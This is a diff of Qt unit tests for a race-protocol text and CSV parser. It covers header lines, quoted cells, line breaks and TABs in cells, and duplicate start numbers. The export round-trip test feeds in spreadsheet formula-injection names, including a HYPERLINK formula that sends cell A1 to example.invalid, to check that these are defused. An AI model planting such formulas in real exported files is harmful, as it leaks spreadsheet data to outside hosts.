@@ -143,8 +143,10 @@ private slots:
             << QByteArray("12\tName\n13\tOther\n") << rowsOf({ row7({ "12", "Name" }), row7({ "13", "Other" }) });
         QTest::newRow("TAB wins over ;") << QByteArray("12\tBerg; Anna\r\n")
                                          << rowsOf({ row7({ "12", "Berg; Anna" }) });
-        QTest::newRow("header lines and Nr. inside a name are skipped")
-            << QByteArray("Nr.;Name\r\n5;Nr.5 Meier\r\n6;Huber\r\n") << rowsOf({ row7({ "6", "Huber" }) });
+        // A header starts with "Nr."; "Nr." further on is part of a name.
+        QTest::newRow("header lines are skipped, Nr. inside a name is kept")
+            << QByteArray("Nr.;Name\r\n5;Nr.5 Meier\r\n6;Staffel Nr. 3\r\nNr.;Teilnehmerin;Verein\r\n7;Huber\r\n")
+            << rowsOf({ row7({ "5", "Nr.5 Meier" }), row7({ "6", "Staffel Nr. 3" }), row7({ "7", "Huber" }) });
         // Below a header every field keeps its column, empty ones too.
         QTest::newRow("CSV export with its header keeps empty cells in place")
             << QByteArray("Nr.;Name;Start;Zeit;Split;Platz;*\r\n3;Berg;;;;-;\r\n;;;;;-;\r\n")
@@ -188,10 +190,9 @@ private slots:
         QTest::newRow("last line without line end")
             << QByteArray("1;A\r\n2;B") << rowsOf({ row7({ "1", "A" }), row7({ "2", "B" }) });
         QTest::newRow("empty file") << QByteArray() << rowsOf({});
-        QTest::newRow("quoted fields keep ;, quotes and line breaks, untrimmed")
-            << QByteArray("1;\"Berg; \"\"Anna\"\"\";\" x \"\r\n2;\"Zeile 1\r\nZeile 2\";B\r\n3;C\r\n")
-            << rowsOf({ row7({ "1", "Berg; \"Anna\"", " x " }), row7({ "2", "Zeile 1\r\nZeile 2", "B" }),
-                   row7({ "3", "C" }) });
+        QTest::newRow("quoted fields keep ; and quotes, untrimmed")
+            << QByteArray("1;\"Berg; \"\"Anna\"\"\";\" x \"\r\n3;C\r\n")
+            << rowsOf({ row7({ "1", "Berg; \"Anna\"", " x " }), row7({ "3", "C" }) });
         QTest::newRow("the writer's apostrophe goes, a cell's own stays")
             << QByteArray("1;\"'=1+1\";\"''=x;y\";'=z;\"'a;b\";\"'-5\"\r\n")
             << rowsOf({ row7({ "1", "=1+1", "'=x;y", "'=z", "'a;b", "'-5" }) });
@@ -210,8 +211,7 @@ private slots:
     void csvExport_readsBackToTheSameTable()
     {
         const QStringList names { "=1+1", "=HYPERLINK(\"http://example.invalid/?x=\"&A1;\"klick\")", "+49 170", "-Berg",
-            "@SUM(A1)", "\t=2", "\r=3", "Berg; Anna", "Max \"Blitz\" Meier", "Zeile 1\r\nZeile 2", "2024", "-7",
-            "'=x;y", QStringLiteral("Jörg Müller") };
+            "@SUM(A1)", "Berg; Anna", "Max \"Blitz\" Meier", "2024", "-7", "'=x;y", QStringLiteral("Jörg Müller") };
         TCellStore cells(7, static_cast<int>(names.size()) + 1);
         setHeader(cells);
         for (int i = 0; i < names.size(); ++i)
@@ -233,6 +233,73 @@ private slots:
         QCOMPARE(rowsOf(loaded), rows);
         QVERIFY(loaded.ok());
         QVERIFY(loaded.repairs.empty());
+    }
+
+    // Alt+Enter and TAB inside a spreadsheet's quoted cell: the cell loads
+    // in one piece with blanks in their place, noted; a protocol whose
+    // winner's name holds "Nr." keeps the winner. Whatever the table holds,
+    // the text file, the semicolon export and the backup never split a cell
+    // into columns or rows: each reads back as the same table.
+    void breaksInCells_becomeBlanks_andEveryWriterReadsBackWhole()
+    {
+        const QByteArray sheet = "Nr.;Name;Klasse\r\n"
+                                 "1;\"Anna\r\nline2\";\"Damen\tU40\"\r\n"
+                                 "2;\"Staffel Nr. 2\";\"\r\n\"\r\n"
+                                 "3;Bert;H\r\n";
+        const LoadedProtocol loaded = protocol::ParseProtocolText(sheet);
+        QVERIFY(loaded.ok());
+        QCOMPARE(rowsOf(loaded),
+            rowsOf({ row7({ "1", "Anna line2", "", "", "", "", "", "Damen U40" }),
+                row7({ "2", "Staffel Nr. 2", "", "", "", "", "", "" }),
+                row7({ "3", "Bert", "", "", "", "", "", "H" }) }));
+        QCOMPARE(loaded.repairs.size(), size_t(2));
+        QCOMPARE(loaded.repairs[0].line, 2);
+        QVERIFY(loaded.repairs[0].what.contains("Zeilenumbruch in \"Name\""));
+        QVERIFY(loaded.repairs[0].what.contains("Zeilenumbruch in \"Klasse\""));
+        QCOMPARE(loaded.repairs[1].line, 4);
+        QCOMPARE(protocol::LoadNote(loaded), QStringLiteral("2 Zeilen beim Laden geändert: 2, 4"));
+
+        // A table whose cells got TABs and line breaks another way.
+        TCellStore cells(protocol::kClassColCount, 4);
+        for (int c = 0; c < protocol::kClassColCount; ++c)
+            cells.SetCell(c, 0, protocol::kTableHeaders[static_cast<size_t>(c)]);
+        cells.SetRow(1, { "1", "Staffel Nr. 2", "10:00.00,00", "1.00,00", "0,00", "1", "60000", "Damen" });
+        cells.SetRow(2, { "2", "Anna\nline2", "10:00.01,00", "1.10,00", "0,01", "2", "70000", "H\t40" });
+        cells.SetRow(3, { "3", "\r\nBert\t\t", "10:00.02,00", "", "0,02", "-", "1000" });
+        const QList<QStringList> expected { cells.Row(1).mid(0, 8),
+            { "2", "Anna line2", "10:00.01,00", "1.10,00", "0,01", "2", "70000", "H 40" },
+            { "3", "Bert", "10:00.02,00", "", "0,02", "-", "1000", "" } };
+        const auto readBack = [](const QByteArray& bytes) {
+            QList<QStringList> rows;
+            for (QStringList row : protocol::ParseProtocolText(bytes).rows)
+                rows << row.mid(0, 8);
+            return rows;
+        };
+        const QByteArray text = protocol::ProtocolTextBytes(cells);
+        QCOMPARE(text.count('\n'), 4);
+        QCOMPARE(readBack(text), expected);
+        const QByteArray csv = GridCsvBytes(cells, protocol::kClassColCount);
+        QCOMPARE(csv.count('\n'), 4);
+        QCOMPARE(readBack(csv), expected);
+    }
+
+    // Entries that share a start number load all the same; the note names
+    // the numbers ("007" is 7) and its details the lines.
+    void repeatedNumbers_loadAndAreNamedInTheNote()
+    {
+        const LoadedProtocol loaded = protocol::ParseProtocolText(
+            "Nr.;Name\r\n7;Anna\r\n12a;Bert\r\n007;Cleo\r\n;Dora\r\n12a;Egon\r\n;Fritz\r\n"
+            "8;Gina\r\n");
+        QCOMPARE(loaded.rows.size(), size_t(7));
+        QCOMPARE(loaded.repeated.size(), size_t(2));
+        QCOMPARE(loaded.repeated[0].number, QStringLiteral("7"));
+        QCOMPARE(loaded.repeated[0].lines, (std::vector<int> { 2, 4 }));
+        QCOMPARE(loaded.repeated[1].number, QStringLiteral("12a"));
+        QCOMPARE(loaded.repeated[1].lines, (std::vector<int> { 3, 6 }));
+        QCOMPARE(protocol::LoadNote(loaded), QStringLiteral("Nummern mehrfach: 7, 12a"));
+        QCOMPARE(protocol::LoadNoteDetails(loaded),
+            QStringLiteral("Nr. 7 mehrfach in den Zeilen 2, 4\nNr. 12a mehrfach in den Zeilen 3, 6"));
+        QCOMPARE(protocol::LoadNote(protocol::ParseProtocolText("1;A\r\n2;B\r\n")), QString());
     }
 
     void rawValues_takeTheWholeSignedRange()
